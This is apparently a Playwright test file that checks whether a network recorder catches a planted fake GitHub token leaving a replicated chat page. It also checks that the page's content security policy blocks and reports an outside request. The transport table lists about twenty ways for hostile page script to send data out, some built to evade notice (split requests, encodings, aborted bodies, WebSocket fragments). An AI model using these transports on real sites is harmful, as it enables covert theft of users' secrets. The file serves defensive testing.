import { CHATS, openChat } from '../browser/chats';
import { expect, bare as test } from '../browser/fixtures';
import { canary, leaks } from './canary';

/** Ways in which a hostile page could send, each as the body of a function of `text`, run in the page. */
const TRANSPORTS: Readonly<Record<string, string>> = {
  fetch: `return fetch('/x', { method: 'POST', body: text })`,
  'a fetch that outlives the page': `fetch('/x', { method: 'POST', body: text, keepalive: true }); location = '/share/1'`,
  'a Request with a form': `const form = new FormData(); form.set('a', text);
    return fetch(new Request('/x', { method: 'POST', body: form }))`,
  'a gzip body': `const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'));
    return fetch('/x', { method: 'POST', body: await new Response(stream).blob() })`,
  'base64 in JSON': `return fetch('/x', { method: 'POST', body: JSON.stringify({ a: btoa('x' + text) }) })`,
  'two requests': `const half = text.length >> 1;
    await fetch('/x', { method: 'POST', body: text.slice(0, half) });
    return fetch('/x', { method: 'POST', body: text.slice(half) })`,
  'a header': `return fetch('/x', { headers: { 'x-note': text } })`,
  'a request that was aborted': `const abort = new AbortController();
    const sent = fetch('/x', { method: 'POST', body: text + ' '.repeat(5e6), signal: abort.signal }).catch(() => 0);
    setTimeout(() => abort.abort()); return sent`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', '/x', false); request.send(text)`,
  'a beacon': `navigator.sendBeacon('/x', new Blob([text]))`,
  'a query': `return fetch('/x?q=' + encodeURIComponent(text))`,
  'an image': `new Image().src = '/x?' + text`,
  'a style': `document.body.style.background = 'url(/x?' + text + ')'`,
  'a form': `const form = document.createElement('form'); form.method = 'post'; form.action = '/x';
    const field = document.createElement('input'); field.name = 'a'; field.value = text;
    form.append(field); document.body.append(form); form.submit()`,
  'the fetch of a frame': `const frame = document.createElement('iframe'); document.body.append(frame);
    return frame.contentWindow.fetch('/x', { method: 'POST', body: text })`,
  'a worker': `const source = 'onmessage = ({ data }) => fetch("https://chatgpt.com/x", { method: "POST", body: data })';
    new Worker(URL.createObjectURL(new Blob([source]))).postMessage(text)`,
  'frames of a WebSocket': `const socket = new WebSocket('wss://ws.chatgpt.com/x');
    socket.onopen = () => text.match(/.{1,4}/g).forEach((piece) => socket.send(piece))`,
  'UTF-16 frames of a WebSocket': `const socket = new WebSocket('wss://ws.chatgpt.com/x');
    socket.onopen = () => socket.send(Uint16Array.from(text, (character) => character.charCodeAt(0)))`,
  'another host': `return fetch('https://files.oaiusercontent.com/x', { method: 'PUT', body: text, headers: { 'x-a': 'b' } })`,
  navigation: `location = '/share/' + text`,
};

for (const [name, body] of Object.entries(TRANSPORTS))
  test(`the record shows what leaves by ${name}`, async ({ page, recorder }) => {
    const planted = canary('github-token', name);
    await openChat(page, CHATS['chatgpt-shell']);
    // Over DevTools, because the page's policy forbids what builds functions out of text.
    const run = `void (async (text) => { ${body} })(${JSON.stringify(planted.text)})`;
    await page.evaluate(run);
    await expect.poll(() => leaks(recorder, planted)).not.toEqual([]);
  });

test("the page's own policy holds, and its violations are recorded", async ({ page, recorder }) => {
  const planted = canary('github-token', 'policy');
  await openChat(page, CHATS['chatgpt-shell']);
  const refused = await page.evaluate(
    (text) => fetch('https://elsewhere.example/', { method: 'POST', body: text }).then(String, String),
    planted.text,
  );
  expect(refused).toContain('TypeError');
  await recorder.until((entries) =>
    entries.some(({ url, complete }) => complete && url.pathname === '/__csp'),
  );
  const [report] = recorder.sent(/^\/__csp$/);
  expect(report?.body.toString()).toContain('connect-src');
  expect(leaks(recorder, planted)).toEqual([]);
});

test('a name that no replica has leads nowhere', async ({ page, replicas, recorder }) => {
  replicas.configure({ csp: 'off' });
  await openChat(page, CHATS['chatgpt-shell']);
  // Browsers take such names to loopback without asking anybody, so that only the mapping stands in the way.
  const url = `https://elsewhere.localhost:${replicas.port}/x`;
  const reached = await page.evaluate((to) => fetch(to, { mode: 'no-cors' }).then(String, String), url);
  expect(reached).toContain('TypeError');
  expect(recorder.sent(/^\/x$/)).toEqual([]);
});

for (const chat of Object.values(CHATS))
  test(`${chat.name} breaks no policy of its own`, async ({ page, replicas, recorder }) => {
    replicas.configure(chat.switches);
    await openChat(page, chat);
    expect(recorder.sent(/^\/__csp$/)).toEqual([]);
  });
